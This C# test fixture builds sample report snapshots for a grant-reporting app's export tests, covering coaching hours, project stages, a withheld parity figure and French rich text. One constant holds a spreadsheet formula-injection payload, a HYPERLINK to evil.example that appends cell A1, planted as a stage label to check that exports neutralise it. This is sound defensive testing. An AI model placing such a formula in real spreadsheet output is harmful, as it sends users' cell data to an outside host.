using Microsoft.Extensions.Localization;
using Microsoft.Extensions.Logging.Abstractions;
using Microsoft.Extensions.Options;
using NodaTime;
using Passerelles.Web.Features.Grids;
using Passerelles.Web.Features.Organisations;
using Passerelles.Web.Features.Reports;
using Passerelles.Web.Infrastructure.Localisation;

namespace Passerelles.Tests.Reports;

/// <summary>Report snapshots to export, built in memory as a report's generation would keep them, and the app's
/// resources read without a web host.</summary>
public static class ReportSnapshots
{
    /// <summary>The localiser factory the app registers, over the same resource files.</summary>
    public static IStringLocalizerFactory Strings { get; } = new ContractingStringLocalizerFactory(
        new ResourceManagerStringLocalizerFactory(Options.Create(new LocalizationOptions { ResourcesPath = "Resources" }), NullLoggerFactory.Instance));

    public const string Hostile = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Cliquez\")";

    public static ReportSnapshot.Figure IndividualHours { get; } = new("coaching.hours.individual", "Individual coaching hours", "hours", 1234.5m, 800m, 434.5m, []);

    public static ReportSnapshot.Figure ProjectsByStage { get; } = new("projects.accompanied", "Projects accompanied", "projects", 12m, 7m, 5m,
    [
        new("CanonicalStage.Ideation", true, 4m),
        new("CanonicalStage.Incubation", true, 8m),
        new(Hostile, false, 0m),
    ]);

    /// <summary>A parity figure whose group is too small to show: its values are zero and must not be written as such.</summary>
    public static ReportSnapshot.Figure WithheldWomen { get; } = new("parity.project_holders.women", "Women", "%", 0m, 0m, 0m,
        [new("Women", true, 0m), new("Men", true, 0m)], Withheld: true);

    public static ReportSnapshot.Figure FundsRaised { get; } = new("milestones.funds_raised.cad", "Funds raised in Canadian dollars", "CAD", 250000m, 250000m, null, []);

    public const string Written = """
        ## Faits saillants

        Une année **riche** en *rencontres*, voir [le bilan](https://example.org/bilan).

        - Deux cercles de pratique
        - Une mission à Tarnos
          1. préparation
          2. visites

        `code` et <b>balise</b>
        """;

    public static ReportSnapshot.Section CoachingSection { get; } = new("coaching",
        new("Accompagnement", "Accompagnement", "Coaching"),
        [IndividualHours, ProjectsByStage, WithheldWomen],
        [new("highlights", new("Faits saillants de l'année", "Faits saillants de l'année", "Highlights of the year"), Written),
         new("empty", new("Difficultés rencontrées", "Difficultés rencontrées", "Difficulties met"), "")]);

    /// <summary>A heading a sheet cannot be named after as it is: too long, with characters Excel forbids.</summary>
    public static ReportSnapshot.Section MilestonesSection(string key = "milestones") => new(key,
        new("Jalons : entreprises/fonds [2023] — bilan détaillé", "Jalons : entreprises/fonds [2023] — bilan détaillé", "Milestones: enterprises/funds [2023] — detailed review"),
        [FundsRaised], []);

    /// <summary>The FFQCD's report for 2023–2024 of a Québec beneficiary: the funder is on the France side, so
    /// <paramref name="bilingual"/> unless the funder is said to be on the beneficiary's side.</summary>
    public static ReportSnapshot Ffqcd(bool bilingual = false, IReadOnlyList<ReportSnapshot.Section>? sections = null) => new(
        new("Rapport final FFQCD 2023-2024", "Rapport final FFQCD 2023-2024", "FFQCD final report 2023-2024"),
        "ffqcd-final", 3,
        "Fonds franco-québécois pour la coopération décentralisée",
        bilingual ? Side.France : Side.Quebec,
        [Side.Quebec],
        "Espace412 – Tube à ESS'ai 2023-2024",
        new LocalDate(2023, 4, 1), new LocalDate(2024, 3, 31),
        Instant.FromUtc(2024, 5, 2, 3, 30),
        sections ?? [CoachingSection, MilestonesSection(), MilestonesSection("milestones.again")]);

    /// <summary>The names a French export may show as they are: the records' own names and keys.</summary>
    public static IReadOnlyList<string> Names(ReportSnapshot snapshot) =>
    [
        snapshot.FunderName, snapshot.GrantName, snapshot.TemplateKey, Hostile, "HYPERLINK", "evil.example", "example.org/bilan",
        .. snapshot.Sections.SelectMany(s => s.Figures.Select(f => f.Key).Concat(s.Texts.Select(t => t.Key)).Append(s.Key)),
    ];
}
